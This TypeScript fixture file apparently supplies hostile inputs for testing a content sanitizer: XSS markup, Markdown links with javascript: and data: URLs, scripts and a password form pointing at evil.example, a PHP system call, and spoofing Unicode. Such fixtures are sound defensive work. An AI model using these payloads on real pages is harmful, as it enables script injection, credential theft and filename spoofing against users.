// Texts that people, programs and attackers put into articles; none of them may leave its place.

/** Markup, in whatever disguise: in Markdown, as text of a page, inside JSON. */
export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onload="alert(1)" style="position:fixed">',
  '<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<style>*{background:url("javascript:alert(1)")}@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<a href="javascript:alert(1)">a</a> <a href=" &#x1;javascript:alert(1)">b</a> <a href="JaVa\tScRiPt:alert(1)">c</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">d</a> <a href="vbscript:msgbox(1)">e</a> <a href="//evil.example">f</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)><p style="background:url(javascript:alert(1))" onclick=alert(1)>x',
  '</p></td></table></body></html><h1>mine now</h1>',
  '--></style></title></textarea></noscript><script>alert(1)</script>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]><?php system("id") ?><%= 7 * 7 %>',
  '<p>one<p>two<table><tr><td>three<b>four<i>five</b>six',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;script&#62;',
  '<a href="https://ok.example/" onmouseover="alert(1)" target=_blank ping="https://evil.example">fine</a>',
  '<i data-mso="open600"></i><i data-mso="close"></i>',
  '{{first_name|there}} {{#each x}} #{7*7} *|FNAME|* %recipient% <%first%> [[name]]',
]

/** Links and pictures of Markdown that lead nowhere good. */
export const LINKS: readonly string[] = [
  '[a](javascript:alert(1)) [b](<javascript:alert(1)>) [c](javascript&colon;alert(1)) [d](java&#10;script:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml,<svg onload=alert(1)>)',
  '[a](https://bank.example@evil.example/) [b](https:\\\\evil.example) [c](//evil.example) [d](/etc/passwd)',
  '[a][x] ![b][x]\n\n[x]: javascript:alert(1) "title"',
  '<javascript:alert(1)> <https://ok.example/?a="><script>alert(1)</script>>',
  '[a](https://ok.example/"onmouseover="alert(1)) ![b](https://ok.example/x.png"onerror="alert(1))',
  '![x](https://ok.example/a.png "\\"><script>alert(1)</script>")',
  '[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://x/y) [d](ftp://x.example) [e](tel:+1) [f](mailto:a@b.example?subject=<script>)',
  '[![a](javascript:alert(1))](javascript:alert(2))',
  'www.evil.example/<script> and http://plain.example and a@b.example',
]

/** Unicode that turns, hides, joins, breaks or overflows. */
export const UNICODE: readonly string[] = [
  '\u202eevil\u202c \u202d\u202d\u202d open \u2066\u2067\u2068 isolates \u2069\u2069\u2069\u2069\u202c\u202c',
  'user\u202egnp.exe',
  '\u2069\u202c ends of nothing \u2069',
  '\u200e\u200f\u061c marks',
  'שלום עולם, مرحبا بالعالم and back',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d'.repeat(
    20,
  ),
  '👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 🇩🇪 e\u0301 é ﷽ 𒐫',
  '\u200b\u200c\u200d\u2060\ufeff nothing to see',
  'nul\u0000 bell\u0007 esc\u001b[31m del\u007f c1\u009b \u0085 next line',
  'half \ud800 of \udc00 a pair \udfff\ud83d',
  '\ufffe\uffff\u{1fffe} not characters',
  'ﬁ ﬂ Ⅷ ① ｆｕｌｌ ſ K Å',
  '\u2028line\u2029paragraph\u000bvertical\u000cform',
  'a'.repeat(3_000),
  '𠜎𠜱𠝹𠱓 汉字 かな 한국어 ไทย नमस्ते ༼ つ ◕_◕ ༽つ',
]
